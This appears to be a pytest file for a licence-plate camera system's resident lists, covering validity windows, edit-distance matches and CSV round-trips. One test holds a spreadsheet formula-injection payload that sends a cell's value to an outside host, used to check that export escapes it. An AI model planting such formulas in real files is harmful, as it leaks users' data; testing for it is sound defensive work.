"""Lists of plates, alike in both databases."""

import pytest

from plate_cameras.configuration import Camera
from plate_cameras.store.errors import StoreError
from plate_cameras.store.finding.pass_query import PassQuery
from plate_cameras.store.lists.list_lookup import ListEntry
from plate_cameras.store.pass_store import PassStore
from plate_cameras.store.scope import EVERYTHING
from tests.plate_cameras.store.stored_events import NOW_S, REQUESTER, find_ids, make_event

CSV = """text,note,valid_from,valid_until,edits
A123BC77,flat 4,2025-01-01T00:00:00.000Z,,1
B777BB77,,,,0
"""


@pytest.fixture
def listed(store: PassStore) -> PassStore:
    """Return a store with an empty list, which the camera `gate` looks up."""
    store.lists.create("residents")
    store.configure([Camera("gate", "rtsp://gate", lists=("residents",))])
    return store


@pytest.mark.parametrize(
    ("entry", "is_hit"),
    [
        pytest.param(ListEntry("A123BC77", valid_until_s=NOW_S), True, id="still valid"),
        pytest.param(ListEntry("B128BC77", edits=2), True, id="two edits"),
        pytest.param(ListEntry("A123BC77", valid_until_s=NOW_S - 60), False, id="no longer valid"),
    ],
)
def test_a_pass_hits_an_entry(listed: PassStore, entry: ListEntry, is_hit: bool) -> None:
    listed.lists.put("residents", [entry])
    listed.write([make_event("a")], [])

    assert find_ids(listed, PassQuery(list_name="residents")) == ["a"] * is_hit


def test_changes_count_from_the_next_write(listed: PassStore) -> None:
    listed.write([make_event("a")], [])
    listed.lists.put("residents", [ListEntry("A123BC77")])
    listed.write([make_event("b")], [])
    listed.lists.remove("residents", "A123BC77")
    listed.write([make_event("c")], [])

    assert find_ids(listed, PassQuery(list_name="residents")) == ["b"]


def test_a_csv_file_returns_as_it_came(listed: PassStore) -> None:
    assert listed.lists.import_csv("residents", CSV) == 2
    assert "".join(listed.lists.export_csv("residents", REQUESTER)) == CSV


def test_a_note_is_no_formula_in_a_csv_file(listed: PassStore) -> None:
    entry = ListEntry("A123BC77", '=HYPERLINK("http://site/?"&A1)')
    listed.lists.put("residents", [entry])
    file = "".join(listed.lists.export_csv("residents", REQUESTER))
    assert file.splitlines()[1].startswith("A123BC77,\"'=HYPERLINK")
    listed.lists.import_csv("residents", file, replacing=True)
    assert listed.lists.entries("residents", EVERYTHING) == [entry]


def test_a_list_is_created_once(listed: PassStore) -> None:
    with pytest.raises(StoreError, match="already"):
        listed.lists.create("residents")
    assert listed.lists.names() == ["residents"]
